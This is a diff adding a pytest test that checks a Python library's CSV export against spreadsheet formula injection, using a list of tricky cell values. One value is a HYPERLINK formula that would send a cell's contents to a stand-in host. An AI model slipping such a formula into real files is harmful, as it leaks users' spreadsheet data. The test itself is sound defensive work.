@@ -1,3 +1,4 @@
+import csv
 import json
 import os
 import stat
@@ -5,8 +6,10 @@ import stat
 import pandas as pd
 import pytest
 
+from tr_nlp.csvsafe import FORMULA_STARTS
 from tr_nlp.errors import OutputError
 from tr_nlp.export import atomic_path, write_json, write_table
+from tr_nlp.ingest.table import load_frame
 
 
 def test_write_table_formats(tmp_path):
@@ -17,6 +20,23 @@ def test_write_table_formats(tmp_path):
     assert pd.read_parquet(tmp_path / "t.parquet").equals(frame)
     with pytest.raises(OutputError):
         write_table(frame, tmp_path / "t.xlsx")
+
+
+# what a spreadsheet would run as a formula, and text that only looks like tr_nlp's guard
+HOSTILE = ['=HYPERLINK("http://x.example/?"&A1, "more")', "+44 20 7946 0000", "- yeah, well", "@SUM(1+1)",
+           "\tindented", "'cause I was", "'=already quoted", "''", "'", "", "plain", "-3"]
+
+
+def test_csv_text_never_starts_a_formula_and_reads_back_exactly(tmp_path):
+    frame = pd.DataFrame({"text": HOSTILE, "start": range(-6, 6), "p": [-0.5] * 12})
+    path = write_table(frame, tmp_path / "t.csv")
+    with open(path, newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [r["text"][0] for r in rows if r["text"].startswith(FORMULA_STARTS)] == []
+    assert rows[0]["text"] == "'" + HOSTILE[0] and rows[5]["text"] == "'cause I was"  # an elision stays
+    assert (rows[0]["start"], rows[0]["p"]) == ("-6", "-0.5")  # numbers are not text: no guard
+    assert load_frame(path)[0]["text"].tolist() == HOSTILE
+    assert pd.read_parquet(write_table(frame, tmp_path / "t.parquet"))["text"].tolist() == HOSTILE  # exact
 
 
 def test_atomic_write_leaves_old_file_on_failure(tmp_path):
